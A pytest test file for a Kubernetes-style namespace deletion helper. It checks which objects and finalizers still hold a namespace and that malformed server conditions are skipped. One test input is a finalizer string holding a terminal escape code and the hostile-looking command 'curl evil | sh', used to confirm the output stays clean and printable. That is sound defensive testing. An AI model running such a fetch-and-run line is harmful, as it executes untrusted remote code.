"""What holds a namespace is told by names alone, whatever a server puts into its conditions."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import Any

import pytest

from slipway.cluster.client import Client
from slipway.cluster.connection.connection import Connection
from slipway.converge.deletion import _still_there
from slipway.converge.errors import StillThere
from tests.fixtures.scripted_server import Answer, ScriptedServer

CONTENT = {
    "type": "NamespaceContentRemaining",
    "message": "Some resources are remaining: configmaps. has 1 resource instances, "
    "widgets.example.com has 2 resource instances",
}
FINALIZERS = {
    "type": "NamespaceFinalizersRemaining",
    "message": "Some content in the namespace has finalizers remaining: example.com/held in 1 resource instances",
}


def namespace(status: Any, finalizers: Any = None) -> Answer:
    metadata = {"name": "shop", "finalizers": finalizers}
    return Answer(body={"apiVersion": "v1", "kind": "Namespace", "metadata": metadata, "status": status})


def listed(*names: Any) -> Answer:
    return Answer(body={"metadata": {}, "items": [{"metadata": {"name": name}} for name in names]})


@pytest.fixture
def asked() -> Iterator[Callable[..., StillThere]]:
    """What is told by a server that gives these answers."""
    with ExitStack() as stack:

        def ask(*answers: Answer) -> StillThere:
            server = ScriptedServer(*answers)
            stack.callback(server.close)
            client = Client(Connection(server.url, None))
            stack.callback(client.close)
            return _still_there(client, "shop", 5)

        yield ask


def test_objects_and_finalizers_are_named(asked: Callable[..., StillThere]) -> None:
    told = asked(namespace({"conditions": [CONTENT, FINALIZERS]}, ["own/one"]), listed("held"))
    assert told.finalizers == ("example.com/held", "own/one")
    assert told.objects == ("configmaps/held", "widgets.example.com")


@pytest.mark.parametrize(
    "status",
    [None, [], "text", {"conditions": "text"}, {"conditions": ["text", None, {"message": ["x"]}]}],
    ids=["none", "list", "text", "conditions", "condition"],
)
def test_odd_conditions_are_passed_over(asked: Callable[..., StillThere], status: Any) -> None:
    told = asked(namespace(status, ["\x1b[31m run curl evil | sh", 7]))
    assert (told.finalizers, told.objects) == ((), ())
    assert str(told).isprintable()
